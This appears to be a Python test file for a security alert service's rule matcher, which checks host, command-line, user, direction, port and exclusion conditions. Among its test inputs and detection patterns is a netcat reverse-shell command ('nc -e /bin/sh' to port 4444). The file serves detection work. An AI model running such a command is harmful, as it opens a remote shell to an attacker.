"""Rule conditions beyond the basics: host order, cmdline, user, direction, exclude,
the explicit ``<unknown>`` process, anchoring, and the config → RuleSpec mapping."""

from __future__ import annotations

from typing import Any

import pytest
from deliver_support import make_event

from alert_service.config import build_config
from alert_service.errors import ConfigError
from alert_service.match import (
    HOST_FIELDS,
    UNKNOWN,
    AddressSpec,
    ConditionsSpec,
    ProcessSpec,
    RuleSet,
    RuleSpec,
    TextPatternSpec,
    UserSpec,
    check_rule,
    compile_rule,
    rule_spec_from_config,
)


def rule(**kw: Any) -> RuleSpec:
    return RuleSpec(name=kw.pop("name", "r"), notify=("hook",), **kw)


def test_host_fields_order_is_documented() -> None:
    assert HOST_FIELDS == ("hostIdentifier", "hostname", "fqdn", "computer_name", "host_uuid")


@pytest.mark.parametrize(
    ("host", "decorations", "hit"),
    [
        ("web-01", {}, True),
        ("4C4C4544-UUID", {"hostname": "web-01"}, True),
        ("4C4C4544-UUID", {"fqdn": "web-01.corp.example"}, True),
        ("4C4C4544-UUID", {"computer_name": "web-07"}, True),
        ("4C4C4544-UUID", {"hostname": "db-01", "fqdn": "db-01.corp.example"}, False),
        ("4C4C4544-UUID", {"host_uuid": "web-01"}, True),  # the UUID counts too
        ("4C4C4544-UUID", {"host_uuid": "db-01"}, False),
    ],
)
def test_host_tries_identifier_then_hostname_fqdn_computer_name(
    host: str, decorations: dict[str, str], hit: bool
) -> None:
    spec = rule(host=TextPatternSpec(glob=("web-*",)))
    assert compile_rule(spec).matches(make_event(host=host, decorations=decorations)) is hit


@pytest.mark.parametrize(
    ("patterns", "cmdline", "hit"),
    [
        (TextPatternSpec(glob=("* -e /bin/sh *",)), "nc -e /bin/sh 1.2.3.4 4444", True),
        (TextPatternSpec(regex=(r"nc\s+-e\s+\S+.*",)), "nc -e /bin/sh 1.2.3.4 4444", True),
        (TextPatternSpec(regex=("-e",)), "nc -e /bin/sh", False),  # anchored
        (TextPatternSpec(exact=("curl",)), "curl https://x", False),
        (TextPatternSpec(exact=(UNKNOWN,)), "<drop>", True),
        (TextPatternSpec(glob=("*",)), "<drop>", False),
        (TextPatternSpec(glob=("*<script>*",)), "a <script>ü🐍</script>", True),
    ],
)
def test_process_cmdline(patterns: TextPatternSpec, cmdline: str, hit: bool) -> None:
    spec = rule(process=ProcessSpec(cmdline=patterns))
    assert compile_rule(spec).matches(make_event(cmdline=cmdline)) is hit


@pytest.mark.parametrize(
    ("user", "columns", "hit"),
    [
        (UserSpec(name=TextPatternSpec(exact=("root",))), {}, True),
        (UserSpec(name=TextPatternSpec(exact=("root",))), {"username": "rooter"}, False),
        (UserSpec(name=TextPatternSpec(exact=(UNKNOWN,))), {"username": "<drop>"}, True),
        (UserSpec(uid=(0,)), {}, True),
        (UserSpec(uid=(0,)), {"uid": 10}, False),
        (UserSpec(uid=("1000-59999",)), {"uid": 1000}, True),
        (UserSpec(uid=("1000-59999",)), {"uid": 60000}, False),
        (UserSpec(uid=(0,)), {"uid": None}, False),
        (UserSpec(uid=(0,)), {"uid": "<drop>"}, False),
        (UserSpec(name=TextPatternSpec(exact=("root",)), uid=(1,)), {}, False),  # AND
    ],
)
def test_user(user: UserSpec, columns: dict[str, Any], hit: bool) -> None:
    assert compile_rule(rule(user=user)).matches(make_event(**columns)) is hit


@pytest.mark.parametrize(
    ("directions", "value", "hit"),
    [
        (("outbound",), "outbound", True),
        (("outbound",), "inbound", False),
        (("inbound", "listening"), "listening", True),
        (("<unknown>",), "", True),
        (("<unknown>",), "<drop>", True),
        (("outbound",), "", False),
    ],
)
def test_direction(directions: tuple[Any, ...], value: str, hit: bool) -> None:
    assert compile_rule(rule(direction=directions)).matches(make_event(direction=value)) is hit


def test_unknown_process_can_be_matched_or_excluded_never_dropped() -> None:
    unknown = make_event(name="<drop>", path="<drop>", cmdline="<drop>", pid="<drop>")
    known = make_event()
    rules = RuleSet(
        [
            rule(name="any-4444", remote_port=(4444,)),
            rule(name="only-unknown", process=ProcessSpec(name=TextPatternSpec(exact=(UNKNOWN,)))),
            rule(
                name="known-only",
                remote_port=(4444,),
                exclude=(
                    ConditionsSpec(process=ProcessSpec(name=TextPatternSpec(exact=(UNKNOWN,)))),
                ),
            ),
        ]
    )
    assert [a.rule for a in rules.match(unknown)] == ["any-4444", "only-unknown"]
    assert [a.rule for a in rules.match(known)] == ["any-4444", "known-only"]


def test_exclude_entries_are_anded_inside_and_ored_between() -> None:
    spec = rule(
        remote_port=(443, 4444),
        exclude=(
            ConditionsSpec(host=TextPatternSpec(glob=("build-*",)), remote_port=(443,)),
            ConditionsSpec(remote_address=AddressSpec(include=("10.0.0.0/8",))),
        ),
    )
    compiled = compile_rule(spec)
    assert compiled.matches(make_event(host="build-1", remote_port=4444))  # only half of [0]
    assert not compiled.matches(make_event(host="build-1", remote_port=443))  # all of [0]
    assert not compiled.matches(make_event(remote_address="10.1.1.1"))  # [1]
    assert compiled.matches(make_event(remote_address="11.1.1.1"))


def test_exclude_actions_default_to_any() -> None:
    spec = rule(
        actions=("added", "removed"),
        exclude=(ConditionsSpec(process=ProcessSpec(name=TextPatternSpec(exact=("nc",)))),),
    )
    assert not compile_rule(spec).matches(make_event(action="removed"))
    only_removed = rule(
        actions=("added", "removed"),
        exclude=(ConditionsSpec(actions=("removed",)),),
    )
    assert compile_rule(only_removed).matches(make_event(action="added"))
    assert not compile_rule(only_removed).matches(make_event(action="removed"))


@pytest.mark.parametrize(
    ("spec", "address", "port", "hit"),
    [
        ({"remote_port": (443,)}, "198.51.100.7", 8443, False),
        ({"remote_port": (443,)}, "198.51.100.7", 443, True),
        ({"remote_port": ("440-443",)}, "198.51.100.7", 4430, False),
        ({"remote_address": AddressSpec(include=("10.0.0.1",))}, "110.0.0.15", 1, False),
        ({"remote_address": AddressSpec(include=("10.0.0.1",))}, "10.0.0.15", 1, False),
        ({"remote_address": AddressSpec(include=("10.0.0.1",))}, "10.0.0.1", 1, True),
        ({"remote_address": AddressSpec(include=("10.0.0.1",))}, "::ffff:10.0.0.1", 1, True),
        ({"remote_address": AddressSpec(include=("10.0.0.0/8",))}, "::ffff:110.0.0.1", 1, False),
    ],
)
def test_anchored_numbers(spec: dict[str, Any], address: str, port: int, hit: bool) -> None:
    event = make_event(remote_address=address, remote_port=port)
    assert compile_rule(rule(**spec)).matches(event) is hit


def test_rule_spec_from_config_maps_every_key() -> None:
    raw = {
        "name": "r",
        "notify": ["hook"],
        "actions": ["added", "removed"],
        "queries": ["tracked_connections"],
        "host": {"glob": ["web-*"]},
        "remote_address": {
            "include": ["10.0.0.0/8"],
            "exclude": ["10.1.0.0/16"],
            "include_files": ["/a"],
            "exclude_files": ["/b"],
        },
        "remote_port": [22, "6660-6669"],
        "process": {
            "name": {"exact": ["nc"]},
            "path": {"glob": ["/tmp/*"]},
            "cmdline": {"regex": [".*"]},
        },
        "user": {"name": {"exact": ["root"]}, "uid": [0, "1000-1999"]},
        "direction": ["outbound", "<unknown>"],
        "exclude": [{"host": {"exact": ["build"]}}, {"actions": ["removed"], "remote_port": [22]}],
        "dedup_window_secs": 60,
    }
    spec = rule_spec_from_config(raw)
    assert spec == RuleSpec(
        name="r",
        notify=("hook",),
        actions=("added", "removed"),
        queries=("tracked_connections",),
        host=TextPatternSpec(glob=("web-*",)),
        remote_address=AddressSpec(("10.0.0.0/8",), ("10.1.0.0/16",), ("/a",), ("/b",)),
        remote_port=(22, "6660-6669"),
        process=ProcessSpec(
            TextPatternSpec(exact=("nc",)),
            TextPatternSpec(glob=("/tmp/*",)),
            TextPatternSpec(regex=(".*",)),
        ),
        user=UserSpec(TextPatternSpec(exact=("root",)), (0, "1000-1999")),
        direction=("outbound", "<unknown>"),
        exclude=(
            ConditionsSpec(host=TextPatternSpec(exact=("build",))),
            ConditionsSpec(actions=("removed",), remote_port=(22,)),
        ),
        dedup_window_secs=60.0,
    )


def test_check_rule_locates_problems_in_exclude_user_and_cmdline() -> None:
    spec = rule(
        user=UserSpec(uid=("5-1", 4294967296)),
        process=ProcessSpec(cmdline=TextPatternSpec(regex=("(",))),
        exclude=(ConditionsSpec(remote_port=("99999",), host=TextPatternSpec(regex=("[",))),),
    )
    assert [e.where for e in check_rule(spec)] == [
        ".process.cmdline.regex[0]",
        ".user.uid[0]",
        ".user.uid[1]",
        ".exclude[0].host.regex[0]",
        ".exclude[0].remote_port[0]",
    ]


def test_config_reports_rule_problems_with_paths() -> None:
    doc = {
        "sources": [{"path": "/x"}],
        "notifiers": [{"name": "h", "type": "webhook", "url": "http://127.0.0.1:1/"}],
        "rules": [
            {
                "name": "r",
                "notify": ["h"],
                "direction": ["sideways"],
                "user": {"uid": ["9-1"]},
                "exclude": [{"host": {"exact": ["b"]}}, {"remote_port": ["70000"]}],
                "remote_address": {"include_files": ["/nonexistent/ioc.txt"]},
                "process": {"cmdline": {"regex": ["("]}},
            },
            {"name": "r2", "notify": ["h"], "exclude": [{"bogus": 1}]},
        ],
    }
    with pytest.raises(ConfigError) as info:
        build_config(doc, "c.yaml", environ={})
    found = [f"{p.path}: {p.message}" for p in info.value.problems]
    assert found == [
        "$.rules[0].direction[0]: 'sideways' is not one of "
        "['inbound', 'outbound', 'listening', '<unknown>']",
        "$.rules[0].exclude[1].remote_port[0]: port out of range 0-65535: '70000'",
        "$.rules[0].process.cmdline.regex[0]: invalid regex '(': "
        "missing ): ( (RE2 syntax, linear-time: no backreferences or lookaround)",
        "$.rules[0].remote_address.include_files[0]: cannot read IOC file "
        "/nonexistent/ioc.txt: No such file or directory",
        "$.rules[0].user.uid[0]: empty uid range '9-1': start is above end",
        "$.rules[1].exclude[0]: unknown key bogus",
    ]
